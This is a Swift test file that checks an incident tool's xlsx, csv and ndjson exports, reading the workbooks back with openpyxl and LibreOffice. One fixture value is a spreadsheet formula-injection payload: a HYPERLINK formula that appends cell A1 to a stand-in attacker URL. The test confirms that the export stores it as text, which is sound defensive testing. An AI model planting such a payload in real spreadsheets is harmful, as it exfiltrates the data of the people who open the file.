import Foundation
import TestSupport
import Testing

/// `--format xlsx` (issue 20, point 12) read back by independent readers: Python's openpyxl
/// gives each cell's type (a date-time, a number, text) and the sheet's frozen panes and
/// autofilter; LibreOffice Calc headless opens the workbook and converts it to CSV.
@Suite("End to end: xlsx workbooks of list and stats", .serialized)
struct SpreadsheetXLSXTests {
    /// One cell as openpyxl reads it: `datetime`, `int`, `float`, `str` or `NoneType`, and its text
    /// (a date-time in ISO 8601 without offset).
    struct Cell: Decodable, Equatable {
        var type: String
        var text: String
    }

    struct Sheet: Decodable {
        var name: String
        var freeze: String?
        var filter: String?
        var rows: [[Cell]]
    }

    /// Runs `incidents ARGS --output FILE.xlsx` on the analyst fixture and reads the workbook
    /// with openpyxl: its sheets, in order.
    static func workbook(_ arguments: [String]) async throws -> (path: String, sheets: [Sheet]) {
        let directory = try TestPaths.temporaryDirectory("xlsx")
        let path = directory.appendingPathComponent("out.xlsx").path
        let result = try await run("incidents", arguments + ["--database", AnalystFixture.database, "--format", "xlsx", "--output", path])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.isEmpty)
        let reader = #"""
        import json, sys
        try:
            import openpyxl
        except ImportError:
            sys.exit("openpyxl is missing: Scripts/bootstrap installs it (pip install openpyxl, or Debian's python3-openpyxl)")
        book = openpyxl.load_workbook(sys.argv[1])
        sheets = []
        for ws in book.worksheets:
            rows = [[{"type": type(c.value).__name__, "text": "" if c.value is None else (c.value.isoformat() if hasattr(c.value, "isoformat") else str(c.value))}
                     for c in row] for row in ws.iter_rows()]
            sheets.append({"name": ws.title, "freeze": ws.freeze_panes, "filter": ws.auto_filter.ref, "rows": rows})
        print(json.dumps(sheets))
        """#
        let python = try RunningProcess(URL(fileURLWithPath: "/usr/bin/env"), ["python3", "-c", reader, path])
        let read = await python.finished(timeout: 60)
        try #require(read.status == 0, "\(read.stderr)")
        return (path, try JSONDecoder().decode([Sheet].self, from: Data(read.stdout.utf8)))
    }

    static func column(_ name: String, _ rows: [[Cell]]) throws -> Int {
        try #require(rows.first?.firstIndex { $0.text == name }, "no column \(name)")
    }

    @Test("list: times as date-times in --tz, numbers as numbers, Hangul and formula-like text as text, frozen header, autofilter")
    func list() async throws {
        let (_, sheets) = try await Self.workbook(["list", "--tz", "KST", "--order", "source"])
        try #require(sheets.count == 1)
        let sheet = sheets[0]
        let rows = sheet.rows
        #expect(sheet.name == "incidents")
        try #require(rows.count == 4, "a header and three incidents")
        #expect(sheet.freeze == "A2")
        let lastColumn = String(UnicodeScalar(UInt8(64 + rows[0].count)))
        #expect(sheet.filter == "A1:\(lastColumn)4")
        let (id, started, latitude, road, description) = (try Self.column("id", rows), try Self.column("started_at (+09:00)", rows),
                                                          try Self.column("latitude", rows), try Self.column("road", rows),
                                                          try Self.column("description", rows))
        #expect(rows[1][id] == Cell(type: "int", text: "1"))
        // 2024-02-29T23:50:00Z is 08:50 on 1 March in Korea.
        #expect(rows[1][started] == Cell(type: "datetime", text: "2024-03-01T08:50:00"))
        #expect(rows[1][latitude] == Cell(type: "float", text: "37.15"), "the position after its change")
        #expect(rows[1][road] == Cell(type: "str", text: "경부고속도로"))
        #expect(rows[2][description] == Cell(type: "str", text: "=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")"),
                "a text cell, never a formula, with no guard character")
        #expect(rows[3][try Self.column("cleared_at (+09:00)", rows)].type == "NoneType")
    }

    @Test("stats: one sheet per list, counts as numbers; --by day gives dates; LibreOffice opens the workbook")
    func stats() async throws {
        let (path, sheets) = try await Self.workbook(["stats", "--tz", "KST"])
        #expect(sheets.map(\.name) == ["status", "source", "category", "road", "hour"])
        #expect(sheets[0].rows.first == [Cell(type: "str", text: "key"), Cell(type: "str", text: "count")])
        #expect(sheets[0].rows.dropFirst().first == [Cell(type: "str", text: "total"), Cell(type: "int", text: "3")])
        #expect(sheets[3].rows.contains([Cell(type: "str", text: "경부고속도로"), Cell(type: "int", text: "1")]))
        let (_, byDay) = try await Self.workbook(["stats", "--by", "day", "--tz", "KST"])
        #expect(byDay.map(\.name) == ["day"])
        #expect(byDay[0].rows.dropFirst().first?.first == Cell(type: "datetime", text: "2024-02-29T00:00:00"))

        let soffice = "/usr/bin/soffice"
        guard FileManager.default.isExecutableFile(atPath: soffice) else {
            Issue.record("\(soffice) is missing: Scripts/bootstrap installs Debian's libreoffice-calc-nogui for this test")
            return
        }
        let directory = URL(fileURLWithPath: path).deletingLastPathComponent()
        let convert = try RunningProcess(URL(fileURLWithPath: soffice), [
            "-env:UserInstallation=file://\(directory.path)/profile", "--headless",
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir", directory.path, path,
        ])
        let converted = await convert.finished(timeout: 180)
        #expect(converted.status == 0, "\(converted.stderr)")
        // Sheet -1 in the filter options: every sheet, each to out-SHEET.csv.
        let road = try String(contentsOf: directory.appendingPathComponent("out-road.csv"), encoding: .utf8)
        #expect(road.contains("경부고속도로,1"), "\(road)")
    }

    @Test("xlsx needs a file: without --output, a usage error (exit 64) and no bytes on the terminal")
    func needsOutput() async throws {
        for command in ["list", "stats"] {
            let result = try await run("incidents", [command, "--database", AnalystFixture.database, "--format", "xlsx"])
            #expect(result.status == 64)
            #expect(result.stdout.isEmpty)
            #expect(result.stderr.contains("--output FILE.xlsx"), "\(result.stderr)")
        }
    }

    @Test("stats --format csv and ndjson, one row per count; --top keeps the largest")
    func statsRows() async throws {
        let csv = try await run("incidents", ["stats", "--database", AnalystFixture.database, "--format", "csv"])
        #expect(csv.status == 0, "\(csv.stderr)")
        let lines = csv.stdout.components(separatedBy: "\r\n")
        #expect(lines.prefix(3) == ["list,key,count", "status,total,3", "status,active,1"], "\(lines)")
        #expect(lines.contains("road,경부고속도로,1"))
        let ndjson = try await run("incidents", ["stats", "--database", AnalystFixture.database, "--by", "road", "--top", "2",
                                                 "--format", "ndjson"])
        #expect(ndjson.status == 0, "\(ndjson.stderr)")
        #expect(ndjson.stdout.split(separator: "\n").count == 2, "\(ndjson.stdout)")
        #expect(ndjson.stdout.hasPrefix("{\"road\": "), "\(ndjson.stdout)")
        // --output takes every format, the table too.
        let file = try TestPaths.temporaryDirectory("stats-output").appendingPathComponent("stats.txt")
        let table = try await run("incidents", ["stats", "--database", AnalystFixture.database, "--output", file.path])
        #expect(table.status == 0 && table.stdout.isEmpty, "\(table.stderr)")
        #expect(try String(contentsOf: file, encoding: .utf8).hasPrefix("total 3   active 1"))
    }
}
